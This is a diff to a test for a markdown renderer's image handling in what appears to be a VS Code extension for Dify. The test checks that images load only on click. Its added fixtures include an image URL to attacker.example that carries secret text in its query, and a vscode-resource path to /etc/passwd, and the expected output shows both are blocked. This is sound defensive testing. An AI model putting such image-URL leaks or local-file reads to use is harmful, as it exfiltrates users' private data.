@@ -81,19 +81,29 @@ describe('markdown renderer: code actions, links and images', function () {
   });
 
   it('loads no image until its placeholder is clicked, then loads exactly that one', async () => {
-    const secretUrl = `${md().origin}/img/logo.png?secret=42`;
+    // The app's Dify server, another origin than the page's own (as the webview is to Dify): its signed links pass.
+    const dify = md().origin.replace('127.0.0.1', 'localhost');
+    await md().page.evaluate((origin) => ((window as unknown as { difyOrigin: string }).difyOrigin = origin), dify);
+    const secretUrl = `${dify}/img/logo.png?secret=42`;
     const pixel = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
     await md().page.evaluate(
       (text) => window.mount().view.set(text),
-      `![Logo of us](${secretUrl})\n\n![inline pixel](${pixel})\n\n![relative](/img/local.png) ![cmd](command:x.png)\n\n![svg](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)\n`,
+      `![Logo of us](${secretUrl})\n\n![inline pixel](${pixel})\n\n![relative](/img/local.png) ![cmd](command:x.png)\n\n![svg](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)\n\n` +
+        `![leak](https://attacker.example/p.png?q=my+secret+plan) ![own](${md().origin}/img/logo.png) ![cdn](https://file%2B.vscode-resource.vscode-cdn.net/etc/passwd)\n`,
     );
     await md().page.waitForTimeout(300);
-    const host = new URL(md().origin).host;
+    const host = new URL(dify).host;
     assert.equal(await md().page.locator('img').count(), 0, 'no <img> before a click');
     assert.deepEqual(md().served.filter((u) => u.startsWith('/img/')), [], 'the server saw no image request');
     assert.deepEqual(md().requests, [`${md().origin}/`]);
     assert.equal(await md().page.getByRole('button', { name: `Load image: Logo of us (${host})` }).count(), 1);
-    assert.deepEqual(await md().page.locator('.md-image-blocked').allTextContents(), ['Image blocked: relative', 'Image blocked: cmd']);
+    assert.deepEqual(await md().page.locator('.md-image-blocked').allTextContents(), [
+      'Image blocked: relative',
+      'Image blocked: cmd',
+      'Image blocked: carries data (attacker.example): leak',
+      'Image blocked: inside VS Code: own',
+      'Image blocked: inside VS Code: cdn',
+    ]);
     assert.equal(await md().page.locator('.md-image-load').count(), 2, 'the svg data URL is not an image');
 
     const request = md().page.waitForRequest(secretUrl);
